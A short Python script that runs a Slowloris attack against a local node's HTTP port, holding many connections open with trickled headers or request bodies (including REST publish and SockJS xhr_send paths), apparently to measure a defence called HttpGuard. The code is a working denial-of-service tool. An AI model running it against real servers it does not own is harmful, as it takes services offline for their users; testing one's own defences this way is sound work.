# Slowloris against a node's HTTP port: N connections that never finish a request and trickle a byte every 2 s.
# usage: python3 slowloris.py PORT N MODE SECONDS   (MODE: headers | body (REST publish) | sockjs-body (xhr_send))
# Prints, every 2 s, how many the node still holds open. Used for HttpGuard's figures (commit messages, README).
import socket, sys, time, json, urllib.request
def slowloris(port, n, mode, dur):
    socks=[]
    for i in range(n):
        s=socket.create_connection(("127.0.0.1",port))
        if mode=="headers": s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
        elif mode=="body": s.sendall(b"POST /api/publish/public.x HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n{")
        elif mode=="sockjs-body": s.sendall(b"POST /eventbus/123/abcdef/xhr_send HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n[")
        socks.append(s)
    t0=time.time(); alive=n
    while time.time()-t0<dur:
        time.sleep(2)
        alive=0
        for s in socks:
            try:
                s.settimeout(0.001)
                try:
                    d=s.recv(4096)
                    if d==b"": raise OSError()
                except socket.timeout: pass
                s.sendall(b"X-a: b\r\n" if mode=="headers" else b"1")
                alive+=1
            except OSError: pass
        print(f"{time.time()-t0:5.1f}s open {alive}/{n}", flush=True)
    return alive
if __name__=="__main__":
    slowloris(int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], float(sys.argv[4]))
